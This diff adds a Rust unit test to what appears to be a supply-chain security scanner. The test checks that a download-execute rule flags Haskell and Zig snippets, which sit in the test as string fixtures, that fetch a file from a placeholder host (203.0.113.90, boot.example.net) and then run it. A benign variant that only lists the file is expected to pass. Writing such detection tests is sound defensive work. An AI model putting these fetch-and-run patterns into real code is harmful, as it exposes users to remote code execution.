@@ -250,3 +250,17 @@ fn round_45t_bare_ip_binary_lure() {
     // Other rules may still rate the bare-IP link itself; the block is not a critical lure.
     assert!(worst(&[("SKILL.md", &folder)], rule) < Some(Critical));
 }
+
+/// Round 44t's open shapes of the same class: Haskell's `writeFile path body` then `callProcess
+/// path`, and Zig's `createFile` filled by a later `client.fetch` and run by `Child.init`; a file
+/// saved and only listed is not run.
+#[test]
+fn round_45t_saved_then_run_haskell_zig() {
+    let rule = "supply_chain.download-execute";
+    let hs = "main = do\n  r <- parseRequest \"http://203.0.113.90/tool\"\n  b <- getResponseBody <$> httpLBS r\n  let out = \"/tmp/tool\"\n  BL.writeFile out b\n  callProcess out []\n";
+    at(&[("Main.hs", hs)], rule, Some(Critical));
+    let hs_ok = "main = do\n  r <- parseRequest \"http://203.0.113.90/notes.txt\"\n  b <- getResponseBody <$> httpLBS r\n  let out = \"/tmp/notes.txt\"\n  BL.writeFile out b\n  callProcess \"ls\" [\"-l\", out]\n";
+    at(&[("Main.hs", hs_ok)], rule, None);
+    let zig = "pub fn main() !void {\n    var f = try std.fs.cwd().createFile(\"/tmp/boot.sh\", .{});\n    defer f.close();\n    _ = try client.fetch(.{ .location = .{ .url = \"https://boot.example.net/b.sh\" } });\n    var c = std.process.Child.init(&.{ \"bash\", \"/tmp/boot.sh\" }, a);\n    _ = try c.spawnAndWait();\n}\n";
+    at(&[("boot.zig", zig)], rule, Some(Critical));
+}
